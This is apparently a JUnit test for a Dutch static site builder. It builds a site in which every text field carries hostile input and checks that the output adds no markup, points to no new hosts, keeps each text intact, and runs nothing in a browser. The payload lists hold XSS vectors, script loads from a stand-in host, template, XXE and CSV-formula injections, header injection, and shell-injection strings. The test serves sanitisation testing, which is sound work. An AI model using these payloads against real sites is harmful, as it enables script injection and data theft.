package nl.regiosite.build;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import de.siegmar.fastcsv.reader.CsvReader;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.SortedMap;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.eclipse.rdf4j.model.Literal;
import org.eclipse.rdf4j.model.Statement;
import org.eclipse.rdf4j.rio.RDFFormat;
import org.eclipse.rdf4j.rio.Rio;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.NamedNodeMap;
import org.w3c.dom.Node;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * A site of which every text wants to do harm, held against the same site with harmless texts: it has the same elements
 * and attributes, leads to the same hosts, every text comes out of every file as it went in, and in a real browser nothing
 * runs.
 */
class HostileContentTest {
    /** What a text field of the content or of the settings is called. */
    private static final Set<String> FIELDS = Set.of(
            "titel",
            "naam",
            "korte-naam",
            "omschrijving",
            "samenvatting",
            "ambitie",
            "namens",
            "functie",
            "tekst",
            "toelichting",
            "opmerking",
            "onderdeel",
            "plaats",
            "wat",
            "op-de-site",
            "eenheid",
            "gebied",
            "stand",
            "alt",
            "citaat");

    private static final Pattern YAML = Pattern.compile("(?m)^(\\s*(?:- )?([a-z-]+): ).*$");
    private static final Pattern JSON = Pattern.compile("(\"([a-z-]+)\": )\"(?:[^\"\\\\]|\\\\.)*\"");

    /** Each is told by its number in every file that it comes to. */
    private static final Pattern NUMBERED = Pattern.compile("Tekst(\\d\\d)q ");

    private static final List<String> HOSTILE = Stream.of(
                    "<script>alert(1)</script>",
                    "</script><script src=//elders.test/x.js></script>",
                    "<ScRiPt/x>alert`2`</sCrIpT >",
                    "\"><img src=x onerror=alert(3)>",
                    "' onmouseover='alert(4)' x='",
                    "` onfocus=`alert(5)` autofocus",
                    "</title></style></textarea></noscript><svg/onload=alert(6)>",
                    "<svg><script>alert&#40;7&#41;</script></svg>",
                    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(8)&gt;\">",
                    "<base href=\"https://elders.test/\">",
                    "<meta http-equiv=refresh content=\"0;url=https://elders.test/\">",
                    "<form action=https://elders.test/><input name=body><button>",
                    "<iframe srcdoc=\"<script>alert(9)</script>\"></iframe>",
                    "<style>@import url(//elders.test/x.css);*{background:url(//elders.test/y)}</style>",
                    "<p style=\"width:expression(alert(10));background:url(javascript:alert(11))\">",
                    "<a id=location name=body href=\"jav&#x09;ascript:alert(12)\">",
                    "javascript:alert(13)//\\\";alert(13);//",
                    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=",
                    "{{ 7*7 }}{{ '7'|upper }}{# weg #}",
                    "{% include \"layout.peb\" %}{% raw %}",
                    "${7*7} #{7*7} <%= 7*7 %> @(7*7) [[7*7]]",
                    "]]> <![CDATA[ <x/> ]]>",
                    "--> <!-- x --!> <!ENTITY x SYSTEM \"file:///etc/passwd\"> &x;",
                    "&lt;script&gt; &amp;amp; &#60;b&#62; &nbsp;&notit;",
                    "=cmd|' /C calc'!A0",
                    "@SUM(1+1)*cmd|' /C calc'!A0; \"=1+1\",'=1+1'",
                    "a\r\nSet-Cookie: kwaad=1\r\n\r\n<b>x",
                    "/*\r\n  X-Kwaad: 1\r\n/ https://elders.test/ 301!",
                    "\"},\"x\":{\"y\":\"\\u003cscript\\u003e",
                    "\\\" . <http://elders.test/s> <http://elders.test/p> \"\"\"x\"\"\"@nl ; \\",
                    "een\u2028twee\u2029drie",
                    "\u202eevil\u202c \u2067fdp.exe\u2069 שלום مرحبا",
                    "Z\u0351\u0352\u0353a\u0351lgo 👩‍👩‍👧‍👦 🏳️‍🌈 ﷽",
                    "'; DROP TABLE projecten; -- $(touch /tmp/x) `id` %0a%0d%00 ../../etc/passwd",
                    "# kop\n\n- lijst [x](javascript:alert(15)) ![x](//elders.test/x.png) <https://elders.test>",
                    "undefined null NaN true __proto__ constructor toString hasOwnProperty 1e309 -0")
            .toList();

    /** What runs, frames, styles, sends or takes the name of something, in a story; what is refused with a message is not here. */
    private static final String STORY = """

            <script>alert(101)</script><SCRIPT SRC=//elders.test/x.js></SCRIPT>
            <img src=/x onerror=alert(102) alt="een foto van de buurt" hidden><svg onload=alert(103)><animate onbegin=alert(104)></svg>

            <iframe srcdoc="<script>alert(105)</script>"></iframe><object data="data:text/html,x"></object><embed src="//elders.test/">

            <base href="https://elders.test/"><meta http-equiv="refresh" content="0;url=https://elders.test/">
            <link rel="stylesheet" href="//elders.test/x.css"><style>@import "//elders.test/y.css";</style>

            <form id="location" name="body" action="//elders.test/"><input name="attributes" autofocus onfocus=alert(106)></form>
            <div id="location" name="body" style="background:url(//elders.test/z)" onclick="alert(107)">x</div>
            <a id="documentElement" name="cookie">y</a> <p id="__proto__">z</p> <details open ontoggle=alert(108)>d</details>

            <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(109)&gt;">
            <noscript><p title="</noscript><img src=x onerror=alert(110)>"></noscript>

            {{ 7*7 }} {% include "layout.peb" %} {# weg #} ${7*7} `</code><script>alert(111)</script>` &#27; &#xd800; &#0;

            ``` "><script>alert(112)</script>
            </pre><script>alert(113)</script>
            ```

            Tekst[^"><img]: noot.

            [^"><img]: <img src=q onerror=alert(114)>
            """.replace(
                    "<img src=/x onerror=alert(102) alt=\"een foto van de buurt\" hidden>",
                    "<b onerror=alert(102)>b</b>")
            .replace("<img src=q onerror=alert(114)>", "<b onmouseover=alert(114)>b</b>")
            .replace(
                    "<img title=\"--&gt;&lt;img src=1 onerror=alert(109)&gt;\">",
                    "<b title=\"--&gt;&lt;img onerror=alert(109)&gt;\">");

    @TempDir
    private static Path root;

    private static SortedMap<String, byte[]> harmless;
    private static final List<SortedMap<String, byte[]>> HOSTILES = new ArrayList<>();

    @BeforeAll
    static void build() throws IOException {
        harmless = site("vriendelijk", -1);
        // In another turn, each field has another text.
        for (int turn : new int[] {0, 11, 23}) {
            HOSTILES.add(site("turn" + turn, turn));
        }
    }

    @AfterAll
    static void forget() {
        HOSTILES.clear();
    }

    private static SortedMap<String, byte[]> site(String name, int turn) throws IOException {
        Path site = root.resolve(name);
        Sites.copy(Sites.RESOURCES.resolve("sites/klein/input"), site);
        Path settings = site.resolve("site-config.yml");
        Files.writeString(settings, Files.readString(settings).replace("thema: kaal", "thema: noaberschap"));
        Sites.copy(Sites.REAL.resolve("themes"), site.resolve("themes"));
        int next = Math.max(0, turn);
        for (Path file : files(site)) {
            String text = Files.readString(file);
            boolean json = file.toString().endsWith(".json");
            StringBuilder out = new StringBuilder();
            int fields = json || file.equals(settings) ? text.length() : text.indexOf("\n---", 3);
            Matcher field = (json ? JSON : YAML).matcher(text).region(0, Math.max(0, fields));
            int at = 0;
            while (field.find()) {
                if (FIELDS.contains(field.group(2)) && (json || !field.group().endsWith(":"))) {
                    int number = next++ % HOSTILE.size();
                    String value = "Tekst%02dq %s".formatted(number, turn < 0 ? "van niets" : HOSTILE.get(number));
                    out.append(text, at, field.end(1))
                            .append(JsonMapper.shared().writeValueAsString(value));
                    at = field.end();
                }
            }
            out.append(text.substring(at));
            if (file.toString().endsWith(".md") && turn >= 0) {
                out.append(STORY);
            }
            Files.writeString(file, out.toString());
        }
        return Sites.files(Sites.build(site));
    }

    private static List<Path> files(Path site) throws IOException {
        try (Stream<Path> walk = Files.walk(site.resolve("content"))) {
            return Stream.concat(Stream.of(site.resolve("site-config.yml")), walk)
                    .filter(file -> file.toString().matches(".*\\.(md|json|yml)") && !file.endsWith("LEESMIJ.md"))
                    .sorted()
                    .toList();
        }
    }

    @Test
    void adds_no_element_and_no_attribute_to_any_page() {
        Set<String> known = harmless.entrySet().stream()
                .filter(file -> file.getKey().endsWith(".html"))
                .flatMap(file -> parts(file.getValue()))
                .collect(Collectors.toCollection(TreeSet::new));
        // A story may hold these.
        known.addAll(List.of(
                "div[id]",
                "b[]",
                "b[title]",
                "a[id]",
                "p[id]",
                "p[title]",
                "code[]",
                "pre[]",
                "code[class]",
                "pre[tabindex]"));
        for (SortedMap<String, byte[]> site : HOSTILES) {
            site.forEach((path, bytes) -> {
                if (path.endsWith(".html")) {
                    assertThat(parts(bytes)
                                    .filter(part -> !known.contains(part))
                                    .distinct())
                            .as(path)
                            .isEmpty();
                }
            });
        }
    }

    private static Stream<String> parts(byte[] page) {
        return Jsoup.parse(Sites.text(page)).getAllElements().stream()
                .flatMap(element -> element.attributesSize() == 0
                        ? Stream.of(element.tagName() + "[]")
                        : element.attributes().asList().stream()
                                .map(attribute -> element.tagName() + "[" + attribute.getKey() + "]"));
    }

    @Test
    void leads_to_the_same_hosts_and_gives_the_host_the_same_rules() {
        for (SortedMap<String, byte[]> site : HOSTILES) {
            assertThat(hosts(site)).isEqualTo(hosts(harmless));
            assertThat(site.keySet().stream().map(HostileContentTest::bare))
                    .containsExactlyElementsOf(harmless.keySet().stream()
                            .map(HostileContentTest::bare)
                            .toList());
            assertThat(Sites.text(site, "llms.txt").lines().count())
                    .isEqualTo(Sites.text(harmless, "llms.txt").lines().count());
            for (String file : List.of("_headers", "_redirects", "robots.txt")) {
                assertThat(bare(Sites.text(site, file))).isEqualTo(bare(Sites.text(harmless, file)));
            }
        }
    }

    /** Without the marks that names have of what is in a file. */
    private static String bare(String text) {
        return text.replaceAll("[0-9a-f]{8,}", "#").replaceAll("sha256-[^']+", "#");
    }

    private static Set<String> hosts(SortedMap<String, byte[]> site) {
        Set<String> hosts = new TreeSet<>();
        site.forEach((path, bytes) -> {
            if (path.endsWith(".html")) {
                Document page = Jsoup.parse(Sites.text(bytes));
                for (String name : List.of("href", "src", "action", "srcset", "content", "data", "formaction")) {
                    page.select("[" + name + "]:not(meta[name], meta[property])").eachAttr(name).stream()
                            .map(value ->
                                    value.replaceFirst("(?s)^((?:[a-zA-Z][a-zA-Z0-9+.-]*:)?(?://[^/?#]*)?).*$", "$1"))
                            .forEach(hosts::add);
                }
            }
        });
        return hosts;
    }

    @Test
    void every_file_can_be_read_and_gives_each_text_back() throws Exception {
        Set<String> seen = new TreeSet<>();
        for (SortedMap<String, byte[]> site : HOSTILES) {
            for (var file : site.entrySet()) {
                String kind = file.getKey().replaceFirst("^.*\\.", "");
                for (String text : texts(kind, file.getValue())) {
                    holdsWhole(text, file.getKey());
                    if (NUMBERED.matcher(text).find()) {
                        seen.add(kind);
                    }
                }
            }
        }
        assertThat(seen).contains("html", "xml", "json", "csv", "ttl", "svg", "txt");
    }

    /** Whatever of a text comes out, comes out as it went in; only a short form may end in an ellipsis. */
    private static void holdsWhole(String text, String path) {
        // A cell gets apostrophes against formulas; that those come off again, SpreadsheetTest shows. Markdown has \\.
        String added = path.endsWith(".csv") ? "'" : path.endsWith(".txt") ? "\\" : "\u0000";
        UnaryOperator<String> plainly = it -> plain(it).replace(added, "");
        String plain = plainly.apply(text);
        Matcher number = NUMBERED.matcher(plain);
        while (number.find()) {
            String whole = plainly.apply(HOSTILE.get(Integer.parseInt(number.group(1))));
            String here = plain.substring(number.end());
            int cut = here.indexOf('…');
            // A browser has sixteen signs for the name of a search engine.
            boolean isShort = path.equals("opensearch.xml") && whole.startsWith(here.strip());
            boolean isBeginning = isShort
                    || (cut >= 0 && whole.startsWith(here.substring(0, cut).strip()));
            assertThat(isBeginning || here.startsWith(whole))
                    .as("%s: %s", path, here.length() > 300 ? here.substring(0, 300) : here)
                    .isTrue();
        }
    }

    private static String plain(String text) {
        // What is searched in has one form of each letter.
        return Normalizer.normalize(text, Normalizer.Form.NFC)
                .replaceAll("[\\s\u2028\u2029]+", " ")
                .strip();
    }

    private static List<String> texts(String kind, byte[] bytes) throws Exception {
        String text = Sites.text(bytes);
        return switch (kind) {
            case "html" -> html(text);
            case "xml", "svg" -> {
                List<String> found = new ArrayList<>();
                DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
                factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
                walk(factory.newDocumentBuilder().parse(new ByteArrayInputStream(bytes)), found);
                yield found;
            }
            case "json", "geojson", "webmanifest" -> {
                List<String> found = new ArrayList<>();
                walk(JsonMapper.shared().readTree(bytes), found);
                yield found;
            }
            case "csv" -> {
                char comma = text.lines().findFirst().orElse("").contains(";") ? ';' : ',';
                yield CsvReader.builder().fieldSeparator(comma).ofCsvRecord(new StringReader(text)).stream()
                        .flatMap(line -> line.getFields().stream())
                        .toList();
            }
            case "ttl" -> {
                List<String> found = new ArrayList<>();
                for (Statement statement :
                        Rio.parse(new StringReader(text), "https://voorbeeld.test/", RDFFormat.TURTLE)) {
                    if (statement.getObject() instanceof Literal literal) {
                        found.add(literal.getLabel());
                    }
                }
                yield found;
            }
            default -> kind.equals("txt") ? List.of(text) : List.of();
        };
    }

    private static List<String> html(String text) {
        List<String> found = new ArrayList<>();
        Document page = Jsoup.parse(text);
        for (Element element : page.getAllElements()) {
            // A long name in a chart stands on several lines.
            if (element.tagName().equals("text")) {
                found.add(String.join(" ", element.children().eachText()));
            } else if (!element.tagName().equals("tspan")) {
                element.textNodes().forEach(node -> add(node.getWholeText(), found));
            }
            element.attributes().forEach(attribute -> add(attribute.getValue(), found));
        }
        for (Element data : page.select("script[type=application/ld+json]")) {
            walk(JsonMapper.shared().readTree(data.data()), found);
        }
        return found;
    }

    /** Every text of ours begins with its number, so what begins with an angle bracket is markup, to be read as such. */
    private static void add(String text, List<String> found) {
        found.addAll(text.strip().startsWith("<") ? html(text) : List.of(text));
    }

    private static void walk(JsonNode node, List<String> found) {
        if (node.isString()) {
            add(node.stringValue(), found);
        }
        node.propertyNames().forEach(found::add);
        node.forEach(child -> walk(child, found));
    }

    private static void walk(Node node, List<String> found) {
        if (node.getNodeType() == Node.TEXT_NODE || node.getNodeType() == Node.CDATA_SECTION_NODE) {
            add(node.getNodeValue(), found);
        }
        NamedNodeMap attributes = node.getAttributes();
        for (int i = 0; attributes != null && i < attributes.getLength(); i++) {
            found.add(attributes.item(i).getNodeValue());
        }
        for (Node child = node.getFirstChild(); child != null; child = child.getNextSibling()) {
            walk(child, found);
        }
    }

    /** One page of each kind, and each kind of card. */
    private static List<String> kinds(SortedMap<String, byte[]> site) {
        SortedMap<String, String> kinds = new TreeMap<>();
        site.keySet().stream().filter(path -> path.endsWith(".html")).forEach(path -> {
            List<String> parts = List.of(path.split("/"));
            boolean first = parts.size() < 3;
            String kind =
                    first ? path : parts.get(0) + "/" + (parts.size() > 3 ? parts.get(1) : "") + "/" + parts.size();
            kinds.putIfAbsent(kind, path.replaceFirst("index\\.html$", ""));
        });
        return List.copyOf(kinds.values());
    }

    @Test
    void nothing_runs_in_a_browser() throws IOException {
        SortedMap<String, byte[]> site = HOSTILES.get(1);
        List<String> said = new ArrayList<>();
        // The site knows its own address with its folder, so it is served from there.
        SortedMap<String, byte[]> served = new TreeMap<>();
        site.forEach((path, bytes) -> served.put(path.startsWith("_") ? path : "pilot/" + path, bytes));
        try (SiteServer server = new SiteServer(served);
                Chromium chromium = new Chromium();
                BrowserContext context = chromium.context(new Browser.NewContextOptions())) {
            context.addInitScript(
                    "addEventListener('securitypolicyviolation', e => console.log('csp ' + e.violatedDirective"
                            + " + ' ' + e.blockedURI + ' ' + e.sample))");
            Page page = Chromium.page(context, server.address(), said);
            page.onDialog(dialog -> {
                said.add("a dialog: " + dialog.message());
                dialog.dismiss();
            });
            for (String path : kinds(site)) {
                int before = said.size();
                String address = server.address() + "/pilot/" + path;
                page.navigate(address);
                // What listens to a pointer or to focus gets its chance.
                page.evaluate(
                        "() => { for (const e of document.querySelectorAll('main *, body > *')) {"
                                + " for (const n of ['click', 'mouseover', 'focus', 'toggle', 'load', 'error'])"
                                + " if (n !== 'click' || !(e.closest('a, button, summary, label, input'))) e.dispatchEvent(new Event(n)); } }");
                assertThat(page.url()).isEqualTo(address);
                assertThat(said.subList(before, said.size())).as(path).isEmpty();
            }
        }
    }
}
